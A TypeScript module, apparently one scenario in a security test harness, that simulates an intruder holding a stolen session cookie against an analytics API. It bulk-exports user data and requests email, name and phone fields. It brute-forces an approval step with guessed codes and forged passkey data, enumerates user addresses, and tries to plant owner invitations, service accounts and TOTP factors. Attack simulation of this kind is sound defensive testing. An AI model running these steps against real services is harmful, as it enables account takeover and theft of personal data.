/**
 * D1: somebody else's session cookie, and nothing else. Reads all that the session reads, asks for values to be opened, tries
 * to make itself at home (factors, members, keys, links), and to confirm a list of addresses.
 */
import type { Haul } from '../loot.ts'
import { listEverybody, parsed } from './desk.ts'
import { ask, type Reply, walkApi } from './walk-api.ts'

export interface CookieHolds {
  readonly url: string
  /** `signet_session=…` */
  readonly cookie: string
  readonly projects: readonly number[]
  /** Addresses that it wants to know about. */
  readonly guesses: readonly string[]
  /** `2026-11-24`: until when it exports. */
  readonly today: string
}

export async function stolenCookie({ url, cookie, projects, guesses, today }: CookieHolds): Promise<Haul> {
  const headers = { cookie }
  const texts: string[] = []
  const take = (reply: Reply): Reply => {
    texts.push(reply.text)
    return reply
  }
  const get = async (path: string) => take(await ask(url, headers, 'GET', path))
  const post = async (path: string, body: unknown) => take(await ask(url, headers, 'POST', path, body))

  const streams = new Set<string>()
  const confirmed: string[] = []
  for (const project of projects) {
    const here = `/v1/projects/${project}`
    const listed = await listEverybody(url, headers, project)
    texts.push(listed.text)
    for (const pseudonym of listed.people) streams.add(pseudonym)
    const exported = await get(`/api/2.0/export?project_id=${project}&from_date=2020-01-01&to_date=${today}`)
    for (const [, pseudonym] of exported.text.matchAll(/"distinct_id": ?"([^"]+)"/g)) streams.add(pseudonym!)
    await post(`/api/query/engage?project_id=${project}`, {})
    // Opening: ask for everybody, then try to be the one who proves it, at the desk.
    const people = [...streams].slice(0, 20)
    const filed = parsed((await post(`${here}/grants`, { people, fields: ['$email', '$name', '$phone', '$distinct_id'], level: 'full', reason: 'ticket 1' })).text)
    if (typeof filed['desk'] === 'string') texts.push(...(await tryDesk(new URL(filed['desk'] as string))))
    for (const guess of guesses) {
      const found = await post(`${here}/find`, { value: guess, reason: 'ticket 2' })
      if (found.status === 200 && (parsed(found.text)['people'] as unknown[]).length > 0) confirmed.push(guess)
    }
  }

  const walked = await walkApi({
    url, headers, bodies: homes,
    ids: { id: projects.map(String), pseudonym: [...streams].slice(0, 3) },
    leave: ['DELETE /v1/session', 'DELETE /v1/me/sessions', 'DELETE /v1/me/sessions/{session}', 'DELETE /v1/sessions', 'DELETE /v1/sessions/{session}', 'POST /v1/sample', 'DELETE /v1/sample', 'POST /v1/drills'],
  })
  for (const reply of walked) take(reply)
  const footholds = walked.filter(({ method, path, status }) => method !== 'GET' && method !== 'DELETE' && status < 300 && lasting.test(path)).map(({ method, path }) => `${method} ${path}`)
  return { texts, confirmed, streams: [...streams], footholds }
}

/** Where one makes oneself at home; `…/options` only begins. */
const lasting = /^\/v1\/(?:me\/(?:factors|totp|passkeys|recovery-codes)|invitations|members|owner-links|service-accounts|projects\/\d+\/secrets|vault\/members)(?!.*\/options$)/

const homes: Readonly<Record<string, unknown>> = {
  'POST /v1/invitations': { note: 'me', roles: [{ project: 'all', role: 'owner' }] },
  'POST /v1/service-accounts': { name: 'me', project: 1, scopes: ['read.rows', 'export'] },
  'POST /v1/projects/{id}/secrets': { label: 'me' },
  'PUT /v1/members/{member}/roles': { roles: [{ project: 'all', role: 'owner' }] },
  'POST /v1/me/factors': { factor: { kind: 'totp', ticket: 'x', code: '123456' } },
}

/** The desk without a ceremony: guesses of the secret, of a code, of nothing. */
async function tryDesk(desk: URL): Promise<string[]> {
  const id = desk.searchParams.get('request') ?? ''
  const texts: string[] = []
  const shows: readonly unknown[] = [
    {}, { secret: '' }, { secret: 'a'.repeat(40) }, { code: '000000' }, { code: '123456' }, { assertion: null },
    { assertion: { credentialId: 'AA', authenticatorData: 'AA', clientDataJSON: 'AA', signature: 'AA' } }, { member: 1, factor: 'totp', code: '000000' },
  ]
  for (const what of ['open', 'open.csv', 'open.json', 'approve']) {
    for (const shown of shows) {
      texts.push((await ask(desk.origin, { origin: desk.origin }, 'POST', `/api/requests/${id}/${what}`, shown)).text)
    }
  }
  texts.push((await ask(desk.origin, {}, 'GET', `/api/requests/${id}`)).text)
  return texts
}
